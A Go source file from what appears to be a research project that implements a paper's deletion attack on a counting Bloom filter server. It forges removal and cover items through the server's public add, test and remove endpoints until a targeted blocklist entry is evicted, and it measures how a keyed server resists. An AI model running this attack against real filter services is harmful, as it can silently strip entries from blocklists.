package attack

import (
	"fmt"

	"evilbloom/internal/hashes"
)

// RemoteDeletion is the §4.3 deletion adversary run over the wire against a
// live counting-filter server: she evicts a targeted honest item (a victim
// URL on a blocklist, say) using nothing but the public add, test and
// remove endpoints.
//
// The campaign assumes the paper's threat model — the index family is
// public knowledge (a naive-mode server publishes its seed on the info
// endpoint) — and works like this, once per round until the server stops
// believing the victim present:
//
//  1. Pick a target position p from the victim's index set.
//  2. Forge a removal item X with p ∈ I_X and no other victim position in
//     I_X, so removing X decrements exactly one victim counter.
//  3. Make X a false positive: for every other position of I_X, forge and
//     ADD a cover item holding that position (covers avoid the victim's
//     positions entirely, so they never re-increment what the campaign
//     drains). The server now believes X present although it was never
//     inserted — a Bloom second pre-image assembled from the adversary's
//     own legitimate insertions.
//  4. Ask the server to remove X. The server's membership check passes, the
//     decrements land, and the victim's p counter drops by one.
//
// Against a hardened (keyed) server the adversary's family is fiction: her
// crafted X items are almost never false positives on the server's real
// counters, the remove endpoint refuses them (she can watch the refusals),
// and the victim stays present — the §8.2 countermeasure extending to
// deletions.
//
// Shard routing note: on a multi-shard server the secret routing key
// scatters X and its covers across shards, so a cover only helps when it
// lands in X's shard. The campaign compensates by re-covering until the
// server's own test endpoint confirms X reads as present (the adversary has
// that oracle for free), at the price of extra cover insertions; against a
// single-shard filter — the paper's geometry — one cover pass suffices.
type RemoteDeletion struct {
	ops Target
	fam hashes.IndexFamily
	gen Generator

	// Attempts counts forgery candidates examined.
	Attempts uint64
	// CoverAdds counts cover items inserted through the add endpoint.
	CoverAdds uint64
	// Accepted counts removals the server accepted.
	Accepted uint64
	// Refused counts removals the server refused (its filter believed the
	// crafted item absent) — the hardened server's visible resistance.
	Refused uint64
}

// NewRemoteDeletion wires the adversary to a filter over either plane,
// deriving indexes from fam — the family reconstructed from the filter's
// public info, or a guess against a hardened server.
func NewRemoteDeletion(ops Target, fam hashes.IndexFamily, gen Generator) *RemoteDeletion {
	return &RemoteDeletion{ops: ops, fam: fam, gen: gen}
}

// NewRemoteDeletionFromInfo wires the adversary to the family PublicFamily
// reconstructs, refusing when the server publishes no seed.
func NewRemoteDeletionFromInfo(ops Target, gen Generator) (*RemoteDeletion, error) {
	fam, _, err := PublicFamily(ops)
	if err != nil {
		return nil, err
	}
	return NewRemoteDeletion(ops, fam, gen), nil
}

// EvictReport is the outcome of one eviction campaign.
type EvictReport struct {
	// Evicted reports whether the server stopped believing the victim
	// present — the adversarially induced false negative.
	Evicted bool
	// Rounds is the number of forge-cover-remove rounds driven.
	Rounds int
	// Accepted and Refused are the server's removal verdicts during this
	// campaign (totals also accumulate on the adversary).
	Accepted, Refused uint64
	// CoverAdds is the number of cover items inserted during this campaign.
	CoverAdds uint64
}

// Evict runs the campaign against victim until the server reports it
// absent, maxRounds rounds pass, or the per-item forgery budget exhausts.
// It returns a report rather than failing when the server resists — a
// hardened server surviving the campaign is a result, not an error.
func (a *RemoteDeletion) Evict(victim []byte, perItemBudget uint64, maxRounds int) (*EvictReport, error) {
	victimIdx := a.fam.Indexes(nil, victim)
	if len(victimIdx) == 0 {
		return nil, fmt.Errorf("attack: victim has an empty index set")
	}
	rep := &EvictReport{}
	for rep.Rounds = 0; rep.Rounds < maxRounds; rep.Rounds++ {
		present, err := a.ops.Test(victim)
		if err != nil {
			return rep, err
		}
		if !present {
			rep.Evicted = true
			return rep, nil
		}
		// Rotate the target so a position pinned by honest collisions does
		// not stall the whole campaign.
		target := victimIdx[rep.Rounds%len(victimIdx)]
		x, xIdx, err := a.forgeRemovalItem(victimIdx, target, perItemBudget)
		if err != nil {
			return rep, err
		}
		if err := a.coverUntilPresent(x, xIdx, victimIdx, target, perItemBudget, rep); err != nil {
			return rep, err
		}
		accepted, err := a.ops.Remove(x)
		if err != nil {
			return rep, err
		}
		if accepted {
			a.Accepted++
			rep.Accepted++
		} else {
			a.Refused++
			rep.Refused++
		}
	}
	present, err := a.ops.Test(victim)
	if err != nil {
		return rep, err
	}
	rep.Evicted = !present
	return rep, nil
}

// forgeRemovalItem searches for an item whose index set meets the victim's
// at exactly {target}: removing it decrements precisely one victim counter.
func (a *RemoteDeletion) forgeRemovalItem(victimIdx []uint64, target uint64, budget uint64) ([]byte, []uint64, error) {
	scratch := make([]uint64, 0, a.fam.K())
	for tried := uint64(0); budget == 0 || tried < budget; tried++ {
		item := a.gen.Next()
		a.Attempts++
		scratch = a.fam.Indexes(scratch[:0], item)
		if meetsAtExactly(scratch, victimIdx, target) {
			idx := make([]uint64, len(scratch))
			copy(idx, scratch)
			return item, idx, nil
		}
	}
	return nil, nil, fmt.Errorf("%w: no removal item hits position %d alone", ErrBudgetExhausted, target)
}

// coverUntilPresent inserts cover items for every non-target position of
// xIdx until the server believes x present, retrying (for multi-shard
// servers, where covers can land in the wrong shard) a bounded number of
// times. A pass's covers are forged first and shipped as one batch, so a
// pipelined transport spends one round trip per pass rather than one per
// position. It leaves quietly when the server never concedes — the removal
// attempt that follows records the refusal, which is the observable outcome
// the campaign reports.
func (a *RemoteDeletion) coverUntilPresent(x []byte, xIdx, victimIdx []uint64, target uint64, budget uint64, rep *EvictReport) error {
	const coverPasses = 4
	var covers [][]byte
	for pass := 0; pass < coverPasses; pass++ {
		present, err := a.ops.Test(x)
		if err != nil {
			return err
		}
		if present {
			return nil
		}
		covers = covers[:0]
		for _, q := range xIdx {
			if q == target {
				continue
			}
			cover, err := a.forgeCover(q, victimIdx, budget)
			if err != nil {
				return err
			}
			covers = append(covers, cover)
		}
		if len(covers) == 0 {
			return nil
		}
		if err := a.ops.AddBatch(covers); err != nil {
			return err
		}
		a.CoverAdds += uint64(len(covers))
		rep.CoverAdds += uint64(len(covers))
	}
	return nil
}

// forgeCover searches for an item holding position q while avoiding every
// victim position, so covering never refills what eviction drains.
func (a *RemoteDeletion) forgeCover(q uint64, victimIdx []uint64, budget uint64) ([]byte, error) {
	scratch := make([]uint64, 0, a.fam.K())
	for tried := uint64(0); budget == 0 || tried < budget; tried++ {
		item := a.gen.Next()
		a.Attempts++
		scratch = a.fam.Indexes(scratch[:0], item)
		if !contains(scratch, q) {
			continue
		}
		if intersects(scratch, victimIdx) {
			continue
		}
		return item, nil
	}
	return nil, fmt.Errorf("%w: no cover item for position %d", ErrBudgetExhausted, q)
}

// meetsAtExactly reports whether idx ∩ victim == {target} with target
// appearing in idx exactly once (a duplicate would double-decrement).
func meetsAtExactly(idx, victim []uint64, target uint64) bool {
	hits := 0
	for _, x := range idx {
		if x == target {
			hits++
			continue
		}
		for _, v := range victim {
			if x == v {
				return false
			}
		}
	}
	return hits == 1
}

func contains(idx []uint64, q uint64) bool {
	for _, x := range idx {
		if x == q {
			return true
		}
	}
	return false
}

func intersects(a, b []uint64) bool {
	for _, x := range a {
		for _, y := range b {
			if x == y {
				return true
			}
		}
	}
	return false
}
